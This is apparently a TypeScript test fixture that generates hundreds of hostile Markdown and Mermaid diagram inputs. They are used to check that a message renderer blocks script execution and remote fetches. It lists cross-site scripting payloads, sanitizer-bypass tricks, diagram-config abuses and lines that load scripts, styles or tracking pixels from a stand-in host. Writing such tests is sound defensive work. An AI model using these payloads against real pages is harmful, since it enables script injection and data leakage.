/** Texts that try to run, fetch or open something in a place where a message is shown. */

/** What a text that runs leaves behind, and the address that one that fetches would call. */
const hit = 'window.hit=1';
export const elsewhere = 'https://elsewhere.example';

const openTags = [
  'img src=x',
  'svg',
  'body',
  'video src=x',
  'audio src=x',
  'details open',
  'input autofocus',
  'select autofocus',
  'textarea autofocus',
  'marquee',
  'iframe',
  'object data=x',
  'embed src=x',
  'math',
  'style',
  'a href=x',
  'button autofocus',
  'form',
  'div tabindex=0 autofocus',
  'x contenteditable autofocus',
];

const handlers = ['onerror', 'onload', 'onfocus', 'ontoggle', 'onanimationstart'];

/** Elements that run a handler once they are in the page. */
const handled = openTags.flatMap((tag) => handlers.map((name) => `<${tag} ${name}="${hit}">x`));

const addresses = [
  `javascript:${hit}`,
  `JaVaScRiPt:${hit}`,
  `java\tscript:${hit}`,
  `&#106;avascript:${hit}`,
  `javascript&colon;${hit}`,
  `\u0001javascript:${hit}`,
  `vbscript:${hit}`,
  `data:text/html,<script>${hit}</script>`,
  `data:image/svg+xml,<svg onload="${hit}">`,
  'file:///etc/passwd',
  'blob:https://elsewhere.example/1',
  'filesystem:https://elsewhere.example/1',
];

/** Addresses with unsafe schemes, in every way that a text can link to one. */
const linked = addresses.flatMap((address) => [
  `[x](${address})`,
  `[x](<${address}>)`,
  `<${address}>`,
  `[x][there]\n\n[there]: ${address}`,
  `<a href="${address}">x</a>`,
  `![x](${address})`,
]);

/** Elements that load or run content. */
const embedded = [
  `<script>${hit}</script>`,
  `<script src="${elsewhere}/a.js"></script>`,
  `<SCRIPT>${hit}</SCRIPT>`,
  `<scr<script>ipt>${hit}</script>`,
  `<iframe srcdoc="<script>parent.${hit}</script>"></iframe>`,
  `<iframe src="javascript:parent.${hit}"></iframe>`,
  `<object data="data:text/html,<script>${hit}</script>"></object>`,
  `<embed src="data:text/html,<script>${hit}</script>">`,
  `<base href="${elsewhere}/">`,
  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
  `<link rel="stylesheet" href="${elsewhere}/a.css">`,
  `<style>@import url(${elsewhere}/a.css);</style>`,
  `<style>*{background:url(${elsewhere}/a.png)}</style>`,
  `<div style="background:url(${elsewhere}/a.png)">x</div>`,
  `<form action="${elsewhere}"><button>Send</button></form>`,
  `<form action="javascript:${hit}"><input type=submit autofocus></form>`,
  `<svg><script>${hit}</script></svg>`,
  `<svg><a href="javascript:${hit}"><text>x</text></a></svg>`,
  `<svg><animate onbegin="${hit}" attributeName=x dur=1s></svg>`,
  `<svg><use href="${elsewhere}/a.svg#x"></use></svg>`,
  `<math><mtext></mtext><mglyph><style><img src=x onerror=${hit}></style></mglyph></math>`,
  `<noscript><p title="</noscript><img src=x onerror=${hit}>"></noscript>`,
  `<template><img src=x onerror=${hit}></template>`,
  `<!--><img src=x onerror=${hit}>-->`,
  `<![CDATA[><img src=x onerror=${hit}>]]>`,
  `<?xml-stylesheet href="javascript:${hit}"?>`,
  `<table background="${elsewhere}/a.png"><tr><td>x</td></tr></table>`,
  `![x](${elsewhere}/pixel.png)`,
  `![x][p]\n\n[p]: ${elsewhere}/pixel.png`,
  `<img src="${elsewhere}/pixel.png">`,
  `<video poster="${elsewhere}/a.png"></video>`,
  `<picture><source srcset="${elsewhere}/a.png"></picture>`,
];

const breakouts = [
  `</code></pre><script>${hit}</script>`,
  `<img src=x onerror=${hit}>`,
  `\${${hit}}`,
  `{{constructor.constructor('${hit}')()}}`,
];

/** Code that tries to leave its block, or to inject attributes through its language. */
const fenced = breakouts.flatMap((text) => [
  `\`\`\`json\n${text}\n\`\`\``,
  `\`\`\`html onload=${hit}\n${text}\n\`\`\``,
  `\`\`\`"><img/src=x/onerror=${hit}>\n${text}\n\`\`\``,
  `\`\`\`__proto__\n${text}\n\`\`\``,
  `\`${text}\``,
]);

/** Hostile texts for a message that shows no diagram. */
export const hostileMarkdown: readonly string[] = [...handled, ...linked, ...embedded, ...fenced];

const labels = [
  `<img src=x onerror=${hit}>`,
  `<script>${hit}</script>`,
  `<svg onload=${hit}>`,
  `<a href='javascript:${hit}'>x</a>`,
  `<iframe srcdoc='<script>parent.${hit}</script>'></iframe>`,
  `&lt;img src=x onerror=${hit}&gt;`,
  `#60;img src=x onerror=${hit}#62;`,
  `<img src='${elsewhere}/pixel.png'>`,
];

const labelled = labels.flatMap((label) => [
  `graph TD\nA["${label}"] --> B`,
  `graph TD\nA -->|"${label}"| B`,
  `sequenceDiagram\nA->>B: ${label}`,
  `classDiagram\nclass A["${label}"]`,
  `stateDiagram-v2\ns1: ${label}`,
  `pie\n"${label}" : 1`,
  `gantt\ntitle ${label}\nsection a\nt: 2020-01-01, 1d`,
  `erDiagram\nA {\nstring x "${label}"\n}`,
  `mindmap\nroot((${label}))`,
]);

/** Code of diagrams that tries to do more than draw a picture. */
const asking = [
  `graph TD\nA --> B\nclick A "javascript:${hit}"`,
  `graph TD\nA --> B\nclick A href "javascript:${hit}" "x" _self`,
  `graph TD\nA --> B\nclick A call eval("${hit}")`,
  `%%{init: {"securityLevel": "loose"}}%%\ngraph TD\nA["<img src=x onerror=${hit}>"]`,
  `---\nconfig:\n  securityLevel: loose\n---\ngraph TD\nA["<img src=x onerror=${hit}>"]`,
  `%%{init: {"htmlLabels": true, "securityLevel": "loose"}}%%\ngraph TD\nA["<svg onload=${hit}>"]`,
  `%%{init: {"themeCSS": "@import url(${elsewhere}/a.css);"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"themeCSS": "*{background:url(${elsewhere}/a.png)}"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"fontFamily": "x;}*{background:url(${elsewhere}/a.png)}"}}%%\ngraph TD\nA --> B`,
  `graph TD\nA --> B\nstyle A fill:url(${elsewhere}/a.svg#x)`,
  `graph TD\nA --> B\nclassDef c background:url(${elsewhere}/a.png)\nclass A c`,
  `sequenceDiagram\nparticipant A\nlinks A: {"x": "javascript:${hit}"}\nA->>A: y`,
  `graph TD\nA@{ img: "${elsewhere}/a.png", label: "x" }`,
  `graph TD\nA@{ "img": "${elsewhere}/a.png" } --> B`,
  `sequenceDiagram\nparticipant A\nlink A: x @ javascript:${hit}\nA->>A: y`,
  `classDiagram\nclass A\nlink A "javascript:${hit}"`,
  `%%{init: {"layout": "elk"}}%%\ngraph TD\nA --> B`,
  `%%{init: {"__proto__": {"hit": 1}}}%%\ngraph TD\nA --> B`,
];

/** Hostile code of diagrams. */
export const hostileDiagrams: readonly string[] = [...labelled, ...asking];
